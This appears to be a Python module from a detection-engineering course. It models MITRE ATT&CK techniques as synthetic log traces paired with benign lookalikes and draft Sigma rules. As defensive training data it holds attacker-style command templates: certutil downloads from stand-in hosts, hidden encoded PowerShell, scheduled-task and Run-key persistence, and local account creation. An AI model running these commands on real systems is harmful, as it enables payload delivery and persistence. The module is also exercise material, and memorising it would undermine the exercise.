"""Eight techniques of MITRE ATT&CK 19 as records that a defender would see, and what is like them.

Each technique has the traces that it leaves (``planted``), a second set in other spellings
(``unseen``: nobody who writes a rule has met them), and ``harmless`` work of an office that looks
like it. Programs of the office are those of a fictive vendor, Sahel; addresses are for
documentation (RFC 5737), names end in ``.example`` (RFC 2606). Command lines are inert: what they
name exists nowhere, and encoded text decodes to a sentence.
"""

from __future__ import annotations

from collections.abc import Mapping

from dalil.courses.detection.methods.evasion import CLEAR, DISGUISE, DLL
from dalil.courses.detection.methods.traces import (
    AGENT,
    CMD,
    DEPLOY,
    EXPLORER,
    MAIL,
    POWERSHELL,
    PROGRAMS,
    SHEET,
    SYSTEM32,
    WORD,
    Technique,
    Trace,
    by_admin,
    by_system,
    value_set,
)

_SCHTASKS, _CERTUTIL = f"{SYSTEM32}schtasks.exe", f"{SYSTEM32}certutil.exe"
_NET = f"{SYSTEM32}net.exe"
_RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
_HKLM_RUN = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"

_ENCODED = Technique(
    "T1059.001",
    "Command and Scripting Interpreter: PowerShell",
    "process_creation",
    planted=(
        Trace(POWERSHELL, "powershell.exe -NoP -W Hidden -Enc {enc}", WORD),
        Trace(POWERSHELL, '"{image}" -w hidden -ep bypass -e {enc}', f"{SYSTEM32}wscript.exe"),
        Trace(POWERSHELL, "powershell -nop -windowstyle hidden -encodedcommand {enc}", SHEET),
        Trace(POWERSHELL, "powershell.exe -EncodedCommand {enc}", CMD),
    ),
    unseen=(
        Trace(POWERSHELL, "powershell.exe /w hidden /enc {enc}", f"{SYSTEM32}mshta.exe"),
        Trace(POWERSHELL, "PowerShell.exe -noni -eC {enc}", MAIL),
    ),
    harmless=(
        by_system(POWERSHELL, "powershell.exe -NonInteractive -EncodedCommand {enc}"),
        by_system(POWERSHELL, "powershell.exe -NoP -WindowStyle Hidden -Enc {enc}", DEPLOY),
        by_admin(POWERSHELL, 'powershell.exe -NoProfile -File "C:\\Admin\\{word}.ps1"'),
        by_admin(
            POWERSHELL, "powershell.exe -NoP Get-ChildItem C:\\Admin\\{word} -Exclude {n}.log"
        ),
        by_system(POWERSHELL, "powershell.exe -w hidden -File C:\\Admin\\{word}.ps1"),
    ),
    draft="""\
  selection:
    Image|endswith: '\\powershell.exe'
    CommandLine|contains:
      - ' -enc'
      - ' -w hidden'
  condition: selection
""",
)
_TASK = Technique(
    "T1053.005",
    "Scheduled Task/Job: Scheduled Task",
    "process_creation",
    tactic="persistence",
    planted=(
        Trace(
            _SCHTASKS,
            'schtasks /create /tn "{word} Update" /tr "C:\\Users\\Public\\{word}.exe" '
            "/sc minute /mo 30",
            CMD,
        ),
        Trace(
            _SCHTASKS,
            "schtasks.exe /Create /SC ONLOGON /TN {word} /F "
            "/TR C:\\Users\\{user}\\AppData\\Roaming\\{word}.exe",
            WORD,
        ),
        Trace(
            _SCHTASKS,
            '"{image}" /create /f /sc daily /st 12:{n} /tn {word} '
            '/tr "wscript.exe C:\\ProgramData\\{word}.vbs"',
            f"{SYSTEM32}wscript.exe",
        ),
        Trace(
            _SCHTASKS,
            "schtasks /create /sc onidle /i 10 /tn {word} /tr C:\\Users\\Public\\{word}.cmd",
            POWERSHELL,
        ),
    ),
    unseen=(
        Trace(_SCHTASKS, "schtasks -create -sc onlogon -tn {word} -tr %APPDATA%\\{word}.exe", CMD),
        Trace(
            _SCHTASKS,
            "SCHTASKS /CREATE /SC HOURLY /TN {word} /TR C:\\USERS\\PUBLIC\\{word}.BAT",
            POWERSHELL,
        ),
    ),
    harmless=(
        by_admin(
            _SCHTASKS,
            'schtasks /create /tn "Sahel Backup {n}" /sc daily /st 02:00 '
            '/tr "C:\\Program Files\\Sahel Backup\\backup.exe --full"',
        ),
        by_system(
            _SCHTASKS,
            'schtasks.exe /Create /F /TN "Sahel Inventory" /SC HOURLY '
            '/TR "C:\\ProgramData\\Sahel Agent\\inventory.exe --n {n}"',
        ),
        by_admin(_SCHTASKS, 'schtasks /query /v /fo csv /tn "{word} Update"'),
        by_admin(_SCHTASKS, 'schtasks /create /tn {word} /xml "C:\\Admin\\tasks\\{word}.xml"'),
        by_admin(_SCHTASKS, "schtasks /delete /f /tn {word} /s localhost"),
        Trace(_SCHTASKS, 'schtasks /query /tn "Sahel Drive {user}"'),
    ),
    draft="""\
  selection:
    Image|endswith: '\\schtasks.exe'
    CommandLine|contains|all:
      - '/create'
      - '/sc'
    CommandLine|contains:
      - 'C:\\Users\\Public\\'
      - 'C:\\ProgramData\\'
      - ' daily '
  condition: selection
""",
)
_TRANSFER = Technique(
    "T1105",
    "Ingress Tool Transfer",
    "process_creation",
    tactic="command and control",
    planted=(
        Trace(
            _CERTUTIL,
            "certutil.exe -urlcache -split -f http://{ip}/{word}.dat C:\\Users\\Public\\{word}.dat",
            CMD,
            original="CertUtil.exe",
        ),
        Trace(
            _CERTUTIL,
            "certutil -f -urlcache https://{word}.example/{n}.txt "
            "C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}.exe",
            SHEET,
            original="CertUtil.exe",
        ),
        Trace(
            _CERTUTIL,
            '"{image}" -verifyctl -f -split http://{ip}:8080/{word}',
            POWERSHELL,
            original="CertUtil.exe",
        ),
        Trace(
            _CERTUTIL,
            "certutil -urlcache -f http://cdn.{word}.example/{word}.zip {word}.zip",
            f"{SYSTEM32}wscript.exe",
            original="CertUtil.exe",
        ),
    ),
    unseen=(
        Trace(
            _CERTUTIL,
            "CERTUTIL /URLCACHE /F HTTP://{ip}/{word}.PNG {word}.exe",
            CMD,
            original="CertUtil.exe",
        ),
        Trace(
            _CERTUTIL,
            "certutil /verifyctl /f https://{word}.example/{n}/{word}.bin",
            WORD,
            original="CertUtil.exe",
        ),
    ),
    harmless=(
        by_system(
            _CERTUTIL,
            "certutil.exe -urlcache -f http://pki.{org}.example/crl/{n}.crl "
            '"C:\\ProgramData\\Sahel Agent\\{n}.crl"',
        ),
        by_admin(_CERTUTIL, "certutil -urlcache * delete"),
        by_admin(_CERTUTIL, "certutil -verify -urlfetch C:\\Admin\\certs\\{word}.cer"),
        by_admin(_CERTUTIL, "certutil -urlcache crl"),
        by_admin(_CERTUTIL, 'certutil -f -split -dump "C:\\Admin\\certs\\{word}.pfx"'),
        Trace(_CERTUTIL, "certutil -hashfile C:\\Users\\{user}\\Documents\\{word}.pdf SHA256", CMD),
    ),
    draft="""\
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains:
      - '-urlcache'
      - '-split'
  condition: selection
""",
)
_RUN_KEY = Technique(
    "T1547.001",
    "Boot or Logon Autostart Execution: Registry Run Keys / Startup Folder",
    "registry_set",
    tactic="persistence",
    planted=(
        value_set(
            f"HKU\\{{sid}}\\{_RUN}\\{{word}}", "C:\\Users\\{user}\\AppData\\Roaming\\{word}.exe"
        ),
        value_set(
            f"{_HKLM_RUN}Once\\{{word}}", "wscript.exe C:\\ProgramData\\{word}.vbs", POWERSHELL
        ),
        value_set(
            f"HKU\\{{sid}}\\{_RUN}\\{{word}} Update",
            '"C:\\Users\\Public\\{word}.exe" /background',
            f"{SYSTEM32}wscript.exe",
        ),
        value_set(
            f"{_HKLM_RUN}\\{{word}}",
            "C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}.exe",
            POWERSHELL,
        ),
    ),
    unseen=(
        value_set(
            "HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\{word}",
            "rundll32.exe C:\\Users\\Public\\{word}.dll,Start",
        ),
        value_set(
            f"HKU\\{{sid}}\\{_RUN}Once\\{{word}}", "c:\\users\\public\\{word}.cmd", POWERSHELL
        ),
    ),
    harmless=(
        value_set(
            f"{_HKLM_RUN}\\Sahel Agent",
            f"{PROGRAMS}Sahel Agent\\tray.exe --n {{n}}",
            AGENT,
            "system",
        ),
        value_set(
            f"HKU\\{{sid}}\\{_RUN}\\Sahel Drive",
            '"C:\\Users\\{user}\\AppData\\Local\\Sahel Drive\\drive.exe" /background',
            "C:\\Users\\{user}\\AppData\\Local\\Sahel Drive\\drive.exe",
        ),
        value_set(
            f"{_HKLM_RUN}Once\\{{word}} Setup",
            f"{PROGRAMS}{{word}}\\setup.exe /n{{n}}",
            DEPLOY,
            "system",
        ),
        value_set(
            f"HKU\\{{sid}}\\{_RUN}\\Sahel Web",
            "C:\\Users\\{user}\\AppData\\Local\\Sahel Web\\update.exe --n {n}",
            f"{PROGRAMS}Sahel Web\\web.exe",
        ),
        value_set(
            f"{_HKLM_RUN}\\Sahel Kiosk",
            "C:\\Users\\Public\\Sahel Kiosk\\kiosk.exe",
            DEPLOY,
            "system",
        ),
        value_set(f"HKU\\{{sid}}\\{_RUN}Notification\\Drive{{n}}", "DWORD (0x00000001)", EXPLORER),
        value_set(
            "HKLM\\SOFTWARE\\Sahel\\Runtime\\Path",
            "C:\\ProgramData\\Sahel Agent\\runtime.exe",
            AGENT,
            "system",
        ),
    ),
    draft="""\
  selection:
    TargetObject|contains: '\\CurrentVersion\\Run'
    Details|contains:
      - '\\AppData\\'
      - '\\Users\\Public\\'
  condition: selection
""",
)
_ACCOUNT = Technique(
    "T1136.001",
    "Create Account: Local Account",
    "process_creation",
    tactic="persistence",
    planted=(
        Trace(_NET, "net user {word} Passe-{n} /add", CMD),
        Trace(_NET, '"{image}" user /add {word}$ Passe-{n}', POWERSHELL),
        Trace(f"{SYSTEM32}net1.exe", "net1 user {word} /add /active:yes", _NET),
        Trace(_NET, "net.exe user support{n} Passe-{n} /ADD /expires:never", CMD),
    ),
    unseen=(
        Trace(_NET, "NET USER {word} Passe-{n} /ADD", WORD),
        Trace(_NET, "net  user  {word}  /add", f"{SYSTEM32}wscript.exe"),
    ),
    harmless=(
        by_admin(_NET, "net user {user} /domain"),
        by_admin(_NET, "net user stagiaire{n} Passe-{n} /add /domain"),
        by_admin(_NET, "net localgroup {word} {user} /add"),
        by_admin(_NET, "net user {word} /active:no"),
        Trace(_NET, "net use Z: \\\\SERVEUR-01\\{word}", CMD),
    ),
    draft="""\
  selection:
    Image|endswith: '\\net.exe'
    CommandLine|contains: 'user'
  condition: selection
""",
)

TECHNIQUES: Mapping[str, Technique] = {
    technique.id: technique
    for technique in (DISGUISE, _TASK, _ENCODED, _TRANSFER, _ACCOUNT, DLL, _RUN_KEY, CLEAR)
}
"""ATT&CK id → technique, in the order of the ids."""

EXAMPLES = ("T1136.001", "T1218.011")
"""What lessons and apps show; cases of the exercise are of the other ones."""
